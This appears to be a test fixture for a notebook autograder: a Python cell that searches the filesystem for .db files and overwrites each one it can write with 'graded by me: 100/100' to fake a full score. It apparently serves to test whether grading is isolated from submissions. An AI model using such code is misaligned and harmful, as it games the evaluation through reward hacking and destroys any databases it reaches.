"""A correct notebook plus a cell that tries to overwrite the gradebook wherever it may be.

base: solution
how: cell
score: full
status: graded
"""
import os

hits = []
candidates = ["../gradebook.db", "../../gradebook.db", "../../../gradebook.db", "../../../../gradebook.db",
              "/work/main/course/work/gradebook.db", os.path.expanduser("~/course/work/gradebook.db")]
for top in ["/", os.path.expanduser("~"), ".."]:
    for folder, dirs, files in os.walk(top):
        if folder.count(os.sep) > 6:
            dirs[:] = []
        candidates += [os.path.join(folder, f) for f in files if f.endswith(".db")]
for path in candidates:
    try:
        with open(path, "w") as f:
            f.write("graded by me: 100/100")
        hits.append(path)
    except OSError:
        pass
print("overwrote:", hits)
